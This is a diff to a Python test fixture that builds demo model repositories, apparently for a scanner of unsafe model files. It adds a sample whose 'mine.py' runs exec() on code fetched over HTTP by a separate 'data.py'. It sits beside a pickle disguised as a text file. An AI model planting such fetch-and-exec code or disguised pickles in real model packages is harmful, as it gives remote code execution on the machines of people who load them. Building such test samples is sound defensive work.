@@ -169,6 +169,9 @@ def models() -> dict[str, dict[str, bytes]]:
         "demo/own-code": {"README.md": card("Code of its own"), "model.safetensors": safetensors({"a": 64}),
                           "config.json": as_json(CONFIG | {"auto_map": {"AutoModel": "demo/own-code--modeling_x.XModel"}}),
                           "modeling_x.py": b"import torch\n\n\nclass XModel(torch.nn.Module):\n    pass\n"},
+        "demo/split-code": {"README.md": card("A download here and its call there"), "mine.py": b"from .data import fetch\n\nexec(fetch())\n",
+                            "data.py": b"import requests\n\n\ndef fetch():\n    return requests.get('http://127.0.0.1:9/x').text\n",
+                            "model.safetensors": safetensors({"a": 64})},
         "demo/poisoned-text-name": {"README.md": card("A pickle called txt"), "notes.txt": pickle_of(system)},
     }
 
